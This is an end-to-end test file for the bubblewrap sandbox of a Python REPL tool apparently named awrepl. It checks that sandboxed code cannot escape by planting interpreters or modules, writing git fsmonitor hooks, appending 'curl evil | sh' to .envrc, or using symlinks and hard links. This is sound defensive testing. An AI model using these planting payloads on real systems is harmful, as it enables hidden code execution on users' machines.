// The sandbox's promise, against real bubblewrap and the compiled binary: nothing a sandboxed cell can
// write may later run, or steer what runs, outside the sandbox without the user's word, and nothing
// awrepl owns is reachable from inside (README, "The sandbox"). One test per way out an outside tester
// found (S1-S5), each with the variants it suggests: rename of a parent, symlink, hard link,
// create-before-it-exists, a directory where a file is expected.
import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import { spawn } from "node:child_process";
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { BWRAP_FLOOR_FLAGS, cleanupHome, PYTHON, requireBwrap, run, tempHome, within } from "../harness/mod.ts";

const SANDBOX = ["--sandbox", "--env", "AWREPL_E2E_HOME"]; // the worker carries the test's mark (leftover check)

let home: string; // AWREPL_HOME
let project: { home: string; remove(): void }; // the sandbox's cwd, outside the state directory
let dir: string;
let marks: { home: string; remove(): void };
let mark: string; // a planted program leaves this file behind when it runs
beforeEach(() => {
  requireBwrap();
  home = tempHome("awrepl-e2e-").home;
  project = tempHome("awrepl-project-");
  dir = realpathSync(project.home);
  marks = tempHome("awrepl-mark-");
  mark = join(marks.home, "RAN");
});
afterEach(async () => {
  await cleanupHome(home);
  project.remove();
  marks.remove();
});

/** A cell in a sandboxed session `sb` of `dir`; its value (repr), with the run's stderr on failure. */
async function inSandbox(code: string, extra: string[] = [], env: Record<string, string | undefined> = {}): Promise<string> {
  const r = await run(["-s", "sb", ...SANDBOX, ...extra, "run", "--json", code], { home, cwd: dir, env });
  if (r.code !== 0 && r.code !== 1) throw new Error(`sandboxed run failed (${r.code}): ${r.stderr}`);
  const result = JSON.parse(r.stdout);
  return result.exception ?? result.value;
}

/** Python that tries `stmt` and says what happened: "ok", or the error's class and errno name. */
function attempt(stmt: string): string {
  return `
import errno as _e
try:
    ${stmt}
    _r = "ok"
except OSError as _x:
    _r = type(_x).__name__ + ":" + (_e.errorcode.get(_x.errno) or "?")
_r`;
}

const plantedScript = (m: string) => `#!/bin/sh\necho ran >> ${m}\nexec ${PYTHON} "$@"\n`;

describe("S1: what a sandbox writes never becomes the next interpreter", () => {
  test("a planted ./.venv, $VIRTUAL_ENV and python3 on PATH are passed over with a notice; an explicit --python is the user's word", async () => {
    // No AWREPL_PYTHON anywhere, the supervisor's own environment included: the default is chosen.
    const env = { AWREPL_PYTHON: undefined };
    const plant = (sub: string) =>
      inSandbox(
        `import pathlib, os
p = pathlib.Path(${JSON.stringify(sub)}); p.mkdir(parents=True, exist_ok=True)
(p / ${JSON.stringify(sub.endsWith("bin") ? "python" : "python3")}).write_text(${JSON.stringify(plantedScript(mark))})
os.chmod(p / ${JSON.stringify(sub.endsWith("bin") ? "python" : "python3")}, 0o755)
"planted"`,
        [],
        env,
      );
    expect(await plant(".venv/bin")).toBe("'planted'");
    expect(await plant("venv2/bin")).toBe("'planted'");
    expect(await plant("tools")).toBe("'planted'");
    // The ./.venv: named session and an ephemeral run alike.
    for (const args of [["-s", "plain", "run", "1 + 1"], ["run", "1 + 1"]]) {
      const r = await run(args, { home, cwd: dir, env });
      expect(r.stdout).toBe("2\n");
      expect(r.stderr).toContain(`passed over ${dir}/.venv/bin/python: it lies in ${dir}, which a sandboxed session could write`);
    }
    // $VIRTUAL_ENV pointing into the written tree, and a PATH entry there before the real python3.
    const venv = await run(["run", "1"], { home, cwd: dir, env: { ...env, VIRTUAL_ENV: join(dir, "venv2") } });
    expect(venv.stderr).toContain(`passed over $VIRTUAL_ENV's ${dir}/venv2/bin/python`);
    const path = await run(["run", "1"], { home, cwd: "/", env: { ...env, PATH: `${join(dir, "tools")}:${process.env.PATH}` } });
    expect(path.stdout).toBe("1\n");
    expect(path.stderr).toContain(`passed over ${dir}/tools/python3`);
    expect(existsSync(mark)).toBe(false);
    // Named explicitly, it is the user's choice, and it runs.
    const explicit = await run(["--python", join(dir, ".venv", "bin", "python"), "run", "3"], { home, cwd: dir, env });
    expect(explicit.stdout).toBe("3\n");
    expect(existsSync(mark)).toBe(true);
  }, 90_000);
});

describe("S1b: modules planted in the cwd are not imported outside", () => {
  test("./json.py, ./pickle.py, ./dill.py: not by the probe, a cell, or the runtime at a snapshot; the notice says how to import from there", async () => {
    const env = { AWREPL_PYTHON: undefined };
    const module = `open(${JSON.stringify(mark)}, "a").write("ran\\n")\n`;
    expect(await inSandbox(`for m in ("json", "pickle", "dill", "inspect"): open(m + ".py", "w").write(${JSON.stringify(module)})`, [], env)).toBeNull();
    // The interpreter's probe runs again (its cache dropped), in this directory.
    rmSync(join(home, "runtime", "interpreters.json"), { force: true });
    const r = await run(["-s", "plain", "run", "import json, pickle, inspect; [m.__file__.startswith(" + JSON.stringify(dir) + ") for m in (json, pickle, inspect)]"], { home, cwd: dir, env });
    expect(r.stdout).toBe("[False, False, False]\n");
    expect(r.stderr).toContain(`passed over ${dir} as a place to import from`);
    expect((await run(["-s", "plain", "snapshot"], { home, cwd: dir, env })).code).toBe(0);
    expect(existsSync(mark)).toBe(false);
    // The session's own cells can still choose to import from there.
    const chosen = await run(["-s", "plain", "run", "import sys; sys.path.insert(0, ''); import importlib, json; importlib.reload(json).__file__"], { home, cwd: dir, env });
    expect(chosen.stdout).toContain(dir);
  }, 90_000);
});

describe("S2: awrepl's own state is out of reach from inside", () => {
  test("AWREPL_HOME under the cwd: hidden (no socket, no snapshots), and its parents cannot be renamed to plant a copy", async () => {
    const state = join(dir, "work", "state");
    mkdirSync(state, { recursive: true, mode: 0o700 });
    const env = { AWREPL_HOME: state };
    const r = await run(["-s", "sb", ...SANDBOX, "run", "--json", "import os; sorted(os.listdir('.'))"], { home: state, cwd: dir, env });
    expect(JSON.parse(r.stdout).value).toContain("'work'");
    const cell = async (code: string) => JSON.parse((await run(["-s", "sb", "run", "--json", code], { home: state, cwd: dir, env })).stdout).value;
    expect(await cell(`import os; os.listdir(${JSON.stringify(state)})`)).toBe("[]");
    expect(await cell(attempt(`import socket; socket.socket(socket.AF_UNIX).connect(${JSON.stringify(join(state, "supervisor.sock"))})`))).toBe("'FileNotFoundError:ENOENT'");
    expect(await cell(attempt(`import os; os.rename(${JSON.stringify(state)}, ${JSON.stringify(join(dir, "moved"))})`))).toMatch(/EBUSY|EXDEV/);
    expect(await cell(attempt(`import os; os.rename(${JSON.stringify(join(dir, "work"))}, ${JSON.stringify(join(dir, "moved"))})`))).toBe("'OSError:EBUSY'");
    expect(await cell(attempt(`open(${JSON.stringify(join(state, "config.jsonc"))}, "w")`))).toMatch(/EROFS|EACCES/);
    expect(existsSync(join(state, "supervisor.sock"))).toBe(true); // the host's own view is untouched
    await cleanupHome(state);
  }, 90_000);

  test("the cwd is $HOME: refused unless --sandbox-home; with it, the default state directory under ~/.local/state is hidden and pinned", async () => {
    const fakeHome = join(dir, "alice");
    const state = join(fakeHome, ".local", "state", "awrepl");
    mkdirSync(state, { recursive: true, mode: 0o700 });
    const env = { HOME: fakeHome, AWREPL_HOME: state };
    const refused = await run(["-s", "h", ...SANDBOX, "run", "1"], { home: state, cwd: fakeHome, env });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(`The sandbox will not make ${fakeHome} writable: it is your home directory`);
    const cell = async (code: string) => {
      const r = await run(["-s", "h", ...SANDBOX, "--sandbox-home", "run", "--json", code], { home: state, cwd: fakeHome, env });
      return JSON.parse(r.stdout).value;
    };
    expect(await cell(`import os; os.listdir(${JSON.stringify(state)})`)).toBe("[]");
    // A mount point cannot be moved (EBUSY, or EXDEV: it is a mount of its own).
    for (const from of [".local", ".local/state"]) {
      expect(await cell(attempt(`import os; os.rename(${JSON.stringify(join(fakeHome, from))}, ${JSON.stringify(join(fakeHome, "x"))})`))).toMatch(/EBUSY|EXDEV/);
    }
    await cleanupHome(state);
  }, 90_000);

  test("a process in a sandbox that reaches the socket anyway (a mount mistake) is refused by the supervisor", async () => {
    expect((await run(["-s", "s", "run", "1"], { home, cwd: dir })).stdout).toBe("1\n");
    const socket = join(home, "supervisor.sock");
    // It only listens: the supervisor speaks first, to refuse (a send could meet the closed socket).
    const client = `import socket
s = socket.socket(socket.AF_UNIX); s.connect(${JSON.stringify(socket)})
data = b""
while not data.endswith(b"\\n"):
    chunk = s.recv(65536)
    if not chunk: break
    data += chunk
print(data.decode().strip())`;
    const bwrap = requireBwrap();
    // The default profile's namespaces with the state directory bound in: the mount mistake itself.
    const child = spawn(bwrap, [...BWRAP_FLOOR_FLAGS, "--bind", home, home, "--", PYTHON, "-c", client], { stdio: ["ignore", "pipe", "pipe"] });
    let out = "";
    child.stdout.on("data", (b) => (out += b));
    const code = await within(new Promise<number | null>((r) => child.on("exit", r)), 15_000, "the sandboxed client to finish");
    expect(code).toBe(0);
    expect(JSON.parse(out).message).toContain("runs in another pid and user namespace");
    expect(readFileSync(join(home, "supervisor.log"), "utf8")).toContain("refused a connection");
    // The supervisor serves on.
    expect((await run(["-s", "s", "run", "2"], { home, cwd: dir })).stdout).toBe("2\n");
  }, 60_000);
});

describe("S3: .git cannot be renamed, rewritten or planted", () => {
  const git = (cwd: string, ...args: string[]) => Bun.spawnSync(["git", "-C", cwd, ...args], { env: { ...process.env, GIT_CONFIG_NOSYSTEM: "1", HOME: cwd } });

  test("a repository: .git is read-only and pinned, so git on the host runs nothing the cell planted", async () => {
    expect(git(dir, "init", "-q").exitCode).toBe(0);
    const fsmonitor = `[core]\\n\\tfsmonitor = "echo ran >> ${mark}; false"\\n`;
    expect(await inSandbox(attempt("import os; os.rename('.git', '.git_moved')"))).toBe("'OSError:EBUSY'");
    for (const file of ["config", "config.worktree", "commondir", "hooks/pre-commit", "info/attributes"]) {
      expect(await inSandbox(attempt(`open('.git/${file}', 'w').write(${JSON.stringify(fsmonitor)})`))).toBe("'OSError:EROFS'");
    }
    expect(await inSandbox(attempt("import os; os.link('.git/config', 'cfg')"))).toBe("'OSError:EXDEV'");
    expect(await inSandbox(attempt("import shutil; shutil.rmtree('.git')"))).toMatch(/EROFS|EBUSY/);
    expect(git(dir, "status").exitCode).toBe(0);
    expect(existsSync(mark)).toBe(false);
  }, 90_000);

  test("no repository yet: .git cannot be created (an empty read-only stand-in, inert to git); a worktree's gitdir is read-only too", async () => {
    expect(await inSandbox(attempt("import subprocess; subprocess.run(['git', 'init', '-q'], check=True, capture_output=True)"))).not.toBe("'ok'");
    expect(await inSandbox(attempt("open('.git/config', 'w')"))).toBe("'OSError:EROFS'");
    expect(await inSandbox(attempt("open('.vscode/tasks.json', 'w')"))).toBe("'OSError:EROFS'");
    expect(readdirSync(join(dir, ".git"))).toEqual([]);
    expect(git(dir, "status").stderr.toString()).toContain("not a git repository");

    // A .git file (a worktree or submodule): the repository it names, inside the project, is protected.
    const other = join(dir, "repo");
    mkdirSync(other);
    expect(git(other, "init", "-q").exitCode).toBe(0);
    const wt = join(dir, "wt");
    mkdirSync(wt);
    writeFileSync(join(wt, ".git"), `gitdir: ${join(other, ".git")}\n`);
    await run(["close", "sb"], { home });
    const r = await run(["-s", "sb", ...SANDBOX, "--sandbox-write", wt, "run", attempt(`open(${JSON.stringify(join(other, ".git", "config"))}, "a")`)], { home, cwd: dir });
    expect(r.stdout).toBe("'OSError:EROFS'\n");
  }, 90_000);

  test("--sandbox-git: git works inside; hooks and config stay read-only and .git cannot be moved", async () => {
    expect(git(dir, "init", "-q").exitCode).toBe(0);
    const commit = "import subprocess; subprocess.run(['git', '-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-q', '--allow-empty', '-m', 'inside'], check=True, capture_output=True)";
    expect(await inSandbox(attempt(commit), ["--sandbox-git"])).toBe("'ok'");
    expect(await inSandbox(attempt("open('.git/config', 'a')"), ["--sandbox-git"])).toBe("'OSError:EROFS'");
    expect(await inSandbox(attempt("open('.git/hooks/post-commit', 'w')"), ["--sandbox-git"])).toBe("'OSError:EROFS'");
    expect(await inSandbox(attempt("import os; os.rename('.git', '.g')"), ["--sandbox-git"])).toBe("'OSError:EBUSY'");
    expect(git(dir, "log", "--oneline").stdout.toString()).toContain("inside");
  }, 90_000);
});

describe("S4: protected names that are links, and hard links to protected files", () => {
  test("a credential store or rc file that is a symbolic link refuses the sandbox's start, naming it; nothing is read or written", async () => {
    mkdirSync(join(dir, "dotfiles", "ssh"), { recursive: true });
    writeFileSync(join(dir, "dotfiles", "ssh", "id_ed25519"), "PRIVATE KEY");
    writeFileSync(join(dir, "dotfiles", "envrc"), "export A=1\n");
    for (const [link, target] of [[".ssh", "dotfiles/ssh"], [".envrc", "dotfiles/envrc"]] as const) {
      symlinkSync(target, join(dir, link));
      const r = await run(["-s", "sb", ...SANDBOX, "run", "open('.ssh/id_ed25519').read()"], { home, cwd: dir });
      expect(r.code).toBe(2);
      expect(r.stderr).toContain(`The sandbox cannot protect ${join(dir, link)}: it is a symbolic link (to ${target})`);
      expect(r.stdout).not.toContain("PRIVATE");
      Bun.spawnSync(["rm", join(dir, link)]);
    }
    // A link on the way to a deeper protected name counts the same.
    symlinkSync("dotfiles", join(dir, ".local"));
    const deep = await run(["-s", "sb", ...SANDBOX, "run", "1"], { home, cwd: dir });
    expect(deep.code).toBe(2);
    expect(deep.stderr).toContain(`${join(dir, ".local")}: it is a symbolic link`);
    expect(readFileSync(join(dir, "dotfiles", "envrc"), "utf8")).toBe("export A=1\n");
  }, 90_000);

  test("an existing rc file: no write, no rename, no unlink, no hard link to write through", async () => {
    writeFileSync(join(dir, ".envrc"), "export A=1\n");
    writeFileSync(join(dir, ".bashrc"), "# mine\n");
    expect(await inSandbox(attempt("open('.envrc', 'a').write('curl evil | sh')"))).toBe("'OSError:EROFS'");
    expect(await inSandbox(attempt("import os; os.rename('.envrc', 'e')"))).toBe("'OSError:EBUSY'");
    expect(await inSandbox(attempt("import os; os.unlink('.bashrc')"))).toBe("'OSError:EBUSY'");
    expect(await inSandbox(attempt("import os; os.link('.bashrc', 'b')"))).toBe("'OSError:EXDEV'");
    expect(await inSandbox(attempt("import os; os.rename('x', '.bashrc') if open('x', 'w').write('evil') else None"))).toBe("'OSError:EBUSY'");
    expect(readFileSync(join(dir, ".envrc"), "utf8")).toBe("export A=1\n");
    expect(readFileSync(join(dir, ".bashrc"), "utf8")).toBe("# mine\n");
  }, 90_000);
});

describe("S5: a project file created from inside changes nothing outside until trusted", () => {
  test("a planted awrepl.jsonc (settings, empty, a directory, a hard link, a link) is passed over with a notice; `awrepl trust` makes it count", async () => {
    const outside = { AWREPL_PYTHON: undefined };
    writeFileSync(join(dir, "mine.jsonc"), '{"maxOutputBytes": 10}');
    const cases: [string, string][] = [
      ["settings", `open('awrepl.jsonc', 'x').write('{"timeoutMs": 1, "maxOutputBytes": 0}')`],
      ["empty", `open('awrepl.jsonc', 'x')`],
      ["a directory", `import os; os.mkdir('awrepl.jsonc')`],
      ["a hard link", `import os; os.link('mine.jsonc', 'awrepl.jsonc')`],
      ["a symbolic link", `import os; os.symlink('mine.jsonc', 'awrepl.jsonc')`],
    ];
    for (const [what, code] of cases) {
      Bun.spawnSync(["rm", "-rf", join(dir, "awrepl.jsonc")]);
      expect(await inSandbox(attempt(code))).toBe("'ok'");
      const r = await run(["run", "import time; time.sleep(0.05); print('x' * 100)"], { home, cwd: dir, env: outside });
      expect({ what, code: r.code, stdout: r.stdout }).toEqual({ what, code: 0, stdout: `${"x".repeat(100)}\n` });
      expect(r.stderr).toContain(`passed over ${join(dir, "awrepl.jsonc")}: it lies in ${dir}`);
    }
    // Trusted (the hard-linked or linked content, as it is now), it is used; an edit from inside drops the trust again.
    expect((await run(["trust"], { home, cwd: dir, env: outside })).code).toBe(0);
    const trusted = await run(["run", "print('x' * 100)"], { home, cwd: dir, env: outside });
    expect(trusted.stderr).not.toContain(`passed over ${join(dir, "awrepl.jsonc")}`);
    expect(trusted.stdout).toContain("bytes truncated");
    expect(await inSandbox(attempt(`open('mine.jsonc', 'w').write('{"maxOutputBytes": 20}')`))).toBe("'ok'");
    expect((await run(["run", "1"], { home, cwd: dir, env: outside })).stderr).toContain("passed over");
  }, 120_000);

  test("a directory no sandbox was given stays as it was: its project file needs no trust for plain settings", async () => {
    writeFileSync(join(dir, "awrepl.jsonc"), '{"maxOutputBytes": 10}');
    const r = await run(["run", "print('x' * 100)"], { home, cwd: dir, env: { AWREPL_PYTHON: undefined } });
    expect(r.stderr).toBe("");
    expect(r.stdout).toContain("bytes truncated");
    expect(existsSync(join(home, "sandbox-written.json"))).toBe(false);
  }, 60_000);
});

describe("what held keeps holding", () => {
  test("a sandboxed session comes back sandboxed after a stop and with --no-sandbox; its record stays", async () => {
    expect(await inSandbox("import os; os.getpid()")).toBe("2");
    await run(["daemon", "stop"], { home });
    const again = await run(["-s", "sb", "--no-sandbox", "run", "import os; os.getpid()"], { home, cwd: dir });
    expect(again.stdout).toBe("2\n");
    expect(again.stderr).toContain("keeps its sandbox");
    expect(JSON.parse(readFileSync(join(home, "sandbox-written.json"), "utf8"))).toHaveProperty([dir]);
    // After the supervisor itself is killed, the name comes back from its saved spec: sandboxed still.
    const status = JSON.parse((await run(["daemon", "status", "--json"], { home })).stdout);
    process.kill(status.pid, "SIGKILL");
    const back = await run(["-s", "sb", "run", "import os; os.getpid()"], { home, cwd: dir });
    expect(back.stdout).toBe("2\n");
  }, 60_000);

  test("no capabilities, no terminal to type into, only its own processes; a snapshot onto a planted link replaces the link", async () => {
    expect(await inSandbox("[l.split()[1] for l in open('/proc/self/status') if l.startswith('CapEff')][0]")).toBe("'0000000000000000'");
    expect(await inSandbox(attempt("open('/dev/tty', 'rb')"))).toMatch(/ENXIO|ENODEV|ENOENT/);
    expect(await inSandbox("import os; str(os.getppid()) in [p for p in os.listdir('/proc') if p.isdigit()] and len([p for p in os.listdir('/proc') if p.isdigit()]) < 10")).toBe("True");
    const victim = join(marks.home, "victim");
    writeFileSync(victim, "keep");
    expect(await inSandbox(`import os; os.symlink(${JSON.stringify(victim)}, 'snap.pkl'); x = 1`)).toBeNull();
    expect((await run(["-s", "sb", "snapshot", join(dir, "snap.pkl")], { home, cwd: dir })).code).toBe(0);
    expect(readFileSync(victim, "utf8")).toBe("keep");
    expect(lstatSync(join(dir, "snap.pkl")).isSymbolicLink()).toBe(false);
  }, 60_000);
});
